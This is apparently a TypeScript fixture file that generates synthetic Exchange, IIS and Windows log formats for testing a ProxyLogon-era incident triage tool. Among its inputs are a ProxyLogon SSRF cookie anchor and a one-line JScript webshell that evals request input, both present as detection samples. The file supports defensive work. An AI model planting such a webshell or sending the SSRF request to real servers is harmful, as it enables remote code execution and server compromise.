/**
 * Test inputs for the triage core, written by us from the documented formats (column lists, field
 * orders, message shapes), never copied from incident material. Attackers use documentation
 * addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24); hosts are contoso.example.
 */
import type { Level } from '../../../src/triage/types.ts';

// ------------------------------------------------------------------------------------ HttpProxy

export const HP_FIELDS = [
  'DateTime',
  'RequestId',
  'MajorVersion',
  'MinorVersion',
  'BuildVersion',
  'RevisionVersion',
  'ClientRequestId',
  'Protocol',
  'UrlHost',
  'UrlStem',
  'ProtocolAction',
  'AuthenticationType',
  'IsAuthenticated',
  'AuthenticatedUser',
  'Organization',
  'AnchorMailbox',
  'UserAgent',
  'ClientIpAddress',
  'ServerHostName',
  'HttpStatus',
  'BackEndStatus',
  'ErrorCode',
  'Method',
  'ProxyAction',
  'TargetServer',
  'TargetServerVersion',
  'RoutingType',
  'RoutingHint',
  'BackEndCookie',
  'UrlQuery',
  'GenericInfo',
] as const;
export type HpField = (typeof HP_FIELDS)[number];

const HP_BASE: Partial<Record<HpField, string>> = {
  DateTime: '2021-03-03T02:00:01.000Z',
  RequestId: '6b0e4f2a-1c3d-4e5f-8a9b-0c1d2e3f4a5b',
  MajorVersion: '15',
  MinorVersion: '1',
  BuildVersion: '2176',
  RevisionVersion: '2',
  Protocol: 'Owa',
  UrlHost: 'mail.contoso.example',
  UrlStem: '/owa/service.svc',
  ProtocolAction: 'GetItem',
  AuthenticationType: 'Negotiate',
  IsAuthenticated: 'true',
  AuthenticatedUser: 'CONTOSO\\alice',
  AnchorMailbox: 'Sid~S-1-5-21-1004336348-1177238915-682003330-1105',
  UserAgent:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0 Safari/537.36',
  ClientIpAddress: '10.0.0.23',
  ServerHostName: 'EX01',
  HttpStatus: '200',
  BackEndStatus: '200',
  Method: 'POST',
  ProxyAction: 'Proxy',
  TargetServer: 'ex01.contoso.local',
  TargetServerVersion: 'Version 15.1 (Build 2176.2)',
  RoutingType: 'Database',
  RoutingHint: 'DatabaseGuid~3f2a1c7e-0000-4000-8000-00000000abcd',
  UrlQuery: '?action=GetItem&app=Mail',
  GenericInfo: ';CorrelationID=<empty>;ProxyState-Run=None;',
};

const csvValue = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

/** One HttpProxy line in the HP_FIELDS order (or another order), over an ordinary request. */
export function hp(values: Partial<Record<HpField, string>> = {}, order: readonly string[] = HP_FIELDS): string {
  const v: Record<string, string | undefined> = { ...HP_BASE, ...values };
  return order.map((f) => csvValue(v[f] ?? '')).join(',');
}

export const HP_PREAMBLE = [
  '#Software: Microsoft Exchange Server',
  '#Version: 15.01.2176.002',
  '#Log-type: HttpProxy Logs',
  '#Date: 2021-03-03T02:00:00.000Z',
];
export const HP_FIELDS_LINE = `#Fields: ${HP_FIELDS.join(',')}`;

/** A whole HttpProxy file. `header`: which header lines it has. */
export function httpProxyLog(
  lines: string[],
  header: 'fields' | 'bare' | 'bare-then-fields' | 'none' = 'fields',
  eol = '\r\n',
): string {
  const head =
    header === 'fields'
      ? [...HP_PREAMBLE, HP_FIELDS_LINE]
      : header === 'bare'
        ? [HP_FIELDS.join(',')]
        : header === 'bare-then-fields'
          ? [HP_FIELDS.join(','), ...HP_PREAMBLE, HP_FIELDS_LINE]
          : [];
  return [...head, ...lines].join(eol) + eol;
}

/** The ProxyLogon request as Test-ProxyLogon's documentation describes it. */
export const SSRF_ANCHOR =
  'ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory#~1941962753';
export const hpSsrf = (status = '200', extra: Partial<Record<HpField, string>> = {}) =>
  hp({
    DateTime: '2021-03-03T02:13:41.512Z',
    Protocol: 'Ecp',
    UrlStem: '/ecp/y.js',
    AuthenticatedUser: '',
    AnchorMailbox: SSRF_ANCHOR,
    UserAgent: 'python-requests/2.25.1',
    ClientIpAddress: '198.51.100.7',
    HttpStatus: status,
    RoutingHint: 'X-BEResource-Cookie',
    UrlQuery: '',
    ...extra,
  });

// ------------------------------------------------------------------------------------ IIS

export const IIS_FIELDS = [
  'date',
  'time',
  's-ip',
  'cs-method',
  'cs-uri-stem',
  'cs-uri-query',
  's-port',
  'cs-username',
  'c-ip',
  'cs(User-Agent)',
  'cs(Referer)',
  'sc-status',
  'sc-substatus',
  'sc-win32-status',
  'time-taken',
] as const;
export type IisField = (typeof IIS_FIELDS)[number];

const IIS_BASE: Record<IisField, string> = {
  date: '2021-03-03',
  time: '02:13:41',
  's-ip': '10.0.0.5',
  'cs-method': 'GET',
  'cs-uri-stem': '/owa/',
  'cs-uri-query': '&CorrelationID=<empty>;&cafeReqId=2c1d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f;',
  's-port': '443',
  'cs-username': '-',
  'c-ip': '10.0.0.23',
  'cs(User-Agent)':
    'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0+Safari/537.36',
  'cs(Referer)': '-',
  'sc-status': '200',
  'sc-substatus': '0',
  'sc-win32-status': '0',
  'time-taken': '15',
};

/** One IIS line; spaces in values become `+` as IIS writes them. */
export function iis(values: Partial<Record<IisField, string>> = {}, order: readonly string[] = IIS_FIELDS): string {
  const v: Record<string, string | undefined> = { ...IIS_BASE, ...values };
  return order.map((f) => (v[f] ?? '-').replace(/ /g, '+')).join(' ');
}

export const IIS_PREAMBLE = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2021-03-03 00:00:00',
];
export const iisFieldsLine = (order: readonly string[] = IIS_FIELDS) => `#Fields: ${order.join(' ')}`;
export const iisLog = (lines: string[], eol = '\r\n') => [...IIS_PREAMBLE, iisFieldsLine(), ...lines].join(eol) + eol;

// ------------------------------------------------------------------------------------ ECP, OAB, Rps

export const ECP_HEADER = [
  '#Software: Microsoft Exchange Server',
  '#Version: 15.01.2176.002',
  '#Log-type: ECP Server Log',
  '#Date: 2021-03-03T03:00:00.000Z',
  '#Fields: TimeStamp,ServerName,EventId,EventData',
];
export const ecp = (cmd: string, time = '2021-03-03T03:20:11.123Z') =>
  `${time},EX01,ECP.Request,${csvValue(
    `S:TIME=125;S:SID=S-1-5-21-1004336348-1177238915-682003330-500;S:CMD=${cmd};S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Zm9v;S:REFERRER=;S:EX=;S:ACTID=8a1b2c3d-0000-4000-8000-000000000001`,
  )}`;
export const ecpLog = (lines: string[]) => [...ECP_HEADER, ...lines].join('\r\n') + '\r\n';
export const WEBSHELL_URL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>`;

export const oab = (message: string, time = '2021-03-03T04:05:06.789Z') => `${time},OABGeneratorAssistant,${message}`;
export const OAB_HEADER = [
  '#Software: Microsoft Exchange Server',
  '#Log-type: OABGenerator Log',
  '#Date: 2021-03-03T04:00:00.000Z',
];

export const RPS_FIELDS =
  'DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,GenericErrors'.split(
    ',',
  );
export function rps(values: Record<string, string>): string {
  const base: Record<string, string> = {
    DateTime: '2022-12-20T10:00:00.000Z',
    RequestId: '1a2b3c4d-0000-4000-8000-000000000009',
    MajorVersion: '15',
    MinorVersion: '1',
    BuildVersion: '2507',
    RevisionVersion: '6',
    UrlHost: 'ex01.contoso.local',
    UrlStem: '/powershell',
    AuthenticationType: 'Kerberos',
    IsAuthenticated: 'true',
    AuthenticatedUser: 'CONTOSO\\alice',
    ClientIpAddress: '10.0.0.23',
    ServerHostName: 'EX01',
    FrontEndServer: 'EX01',
    HttpStatus: '200',
    CommandName: 'Get-Mailbox',
    ClientInfo: 'Microsoft WinRM Client',
  };
  const v = { ...base, ...values };
  return RPS_FIELDS.map((f) => csvValue(v[f] ?? '')).join(',');
}
export const rpsLog = (lines: string[]) =>
  [
    '#Software: Microsoft Exchange Server',
    '#Log-type: Rps Http Logs',
    `#Fields: ${RPS_FIELDS.join(',')}`,
    ...lines,
  ].join('\r\n') + '\r\n';

// ------------------------------------------------------------------------------------ event logs

/** Event Viewer "Save as CSV": no name for the message column; messages span lines in quotes. */
export function eventViewerCsv(
  events: { level: string; time: string; source: string; id: string; message: string }[],
): string {
  return (
    [
      'Level,Date and Time,Source,Event ID,Task Category',
      ...events.map((e) => `${e.level},${e.time},${e.source},${e.id},(1),${csvValue(e.message)}`),
    ].join('\r\n') + '\r\n'
  );
}
export const UM_ERROR =
  'An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type\r\n' +
  '   at Microsoft.Exchange.UM.UMCore.Something()\r\n   at Microsoft.Exchange.UM.UMCore.Other()';

/** Get-WinEvent | Export-Csv (Windows PowerShell): #TYPE line, message first, provider later. */
export function winEventCsv(
  events: { message: string; id: string; provider: string; time: string; level: string }[],
): string {
  return (
    [
      '#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord',
      '"Message","Id","Level","ProviderName","LogName","MachineName","TimeCreated","LevelDisplayName"',
      ...events.map((e) =>
        [e.message, e.id, '2', e.provider, 'Application', 'EX01.contoso.local', e.time, e.level]
          .map((v) => `"${v.replace(/"/g, '""')}"`)
          .join(','),
      ),
    ].join('\r\n') + '\r\n'
  );
}

/** Get-WinEvent | Format-List TimeCreated, ProviderName, Id, Message. */
export function formatList(events: { time: string; provider: string; id: string; message: string }[]): string {
  return (
    '\r\n' +
    events
      .map((e) =>
        [
          `TimeCreated  : ${e.time}`,
          `ProviderName : ${e.provider}`,
          `Id           : ${e.id}`,
          `Message      : ${e.message.split('\r\n').join('\r\n               ')}`,
          '',
        ].join('\r\n'),
      )
      .join('\r\n')
  );
}

/** wevtutil qe Application /f:text */
export function wevtutilText(
  events: { time: string; source: string; id: string; level: string; message: string }[],
): string {
  return (
    events
      .map((e, i) =>
        [
          `Event[${i}]:`,
          '  Log Name: Application',
          `  Source: ${e.source}`,
          `  Date: ${e.time}`,
          `  Event ID: ${e.id}`,
          '  Task: N/A',
          `  Level: ${e.level}`,
          '  Computer: EX01.contoso.local',
          '  Description:',
          e.message,
        ].join('\r\n'),
      )
      .join('\r\n\r\n') + '\r\n'
  );
}

// ------------------------------------------------------------------------------------ listings, hashes

export const EXCH = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';

/** Get-ChildItem -Recurse output: "Directory:" blocks with Mode/LastWriteTime/Length/Name tables. */
export function gci(blocks: { dir: string; files: [string, string][] }[]): string {
  return (
    blocks
      .map(
        (b) =>
          `\r\n\r\n    Directory: ${b.dir}\r\n\r\n\r\nMode                 LastWriteTime         Length Name\r\n----                 -------------         ------ ----\r\n` +
          b.files.map(([name, size]) => `-a----          3/3/2021   4:05 AM${size.padStart(15)} ${name}`).join('\r\n'),
      )
      .join('') + '\r\n'
  );
}

/** cmd's dir /s (not /b). */
export function dirS(blocks: { dir: string; files: string[] }[]): string {
  return (
    ' Volume in drive C has no label.\r\n Volume Serial Number is 1234-ABCD\r\n' +
    blocks
      .map(
        (b) =>
          `\r\n Directory of ${b.dir}\r\n\r\n03/03/2021  04:05 AM    <DIR>          .\r\n03/03/2021  04:05 AM    <DIR>          ..\r\n` +
          b.files.map((f) => `03/03/2021  04:05 AM             1,024 ${f}`).join('\r\n') +
          `\r\n               ${b.files.length} File(s)          1,024 bytes\r\n`,
      )
      .join('')
  );
}

export const getFileHashTable = (rows: [string, string][]) =>
  '\r\nAlgorithm       Hash                                                                   Path\r\n' +
  '---------       ----                                                                   ----\r\n' +
  rows.map(([hash, path]) => `SHA256          ${hash.toUpperCase()}       ${path}`).join('\r\n') +
  '\r\n';
export const getFileHashList = (rows: [string, string][]) =>
  rows
    .map(([hash, path]) => `\r\nAlgorithm : SHA256\r\nHash      : ${hash.toUpperCase()}\r\nPath      : ${path}\r\n`)
    .join('');
export const sha256sum = (rows: [string, string][]) => rows.map(([hash, path]) => `${hash}  ${path}`).join('\n') + '\n';

export const RANDOM_HASH = 'd2f1c3b4a5968778695a4b3c2d1e0f1a2b3c4d5e6f708192a3b4c5d6e7f80912';

// ------------------------------------------------------------------------------------ Test-ProxyLogon

export const TPL_26855 = (rows: string[]) =>
  [
    '#TYPE Selected.System.Management.Automation.PSCustomObject',
    '"DateTime","RequestId","ClientIPAddress","UrlHost","UrlStem","RoutingHint","UserAgent","AnchorMailbox","HttpStatus"',
    ...rows,
  ].join('\r\n') + '\r\n';
export const tpl26855Row = (anchor: string, status: string, time = '2021-03-03T02:13:41.512Z') =>
  [
    time,
    '6b0e4f2a-1c3d-4e5f-8a9b-0c1d2e3f4a5b',
    '198.51.100.7',
    'mail.contoso.example',
    '/ecp/y.js',
    'X-BEResource-Cookie',
    'python-requests/2.25.1',
    anchor,
    status,
  ]
    .map((v) => `"${v}"`)
    .join(',');

// ------------------------------------------------------------------------------------ helpers

export const bytesOf = (s: string) => new TextEncoder().encode(s);
export const pad = (text: string, size: number) => text + '\r\n' + '<!-- padding -->\r\n'.repeat(Math.ceil(size / 18));

export interface Case {
  rule: string;
  reason: string;
  file: string;
  text: string | Uint8Array;
}
export interface Positive extends Case {
  level: Level;
  line: number;
}
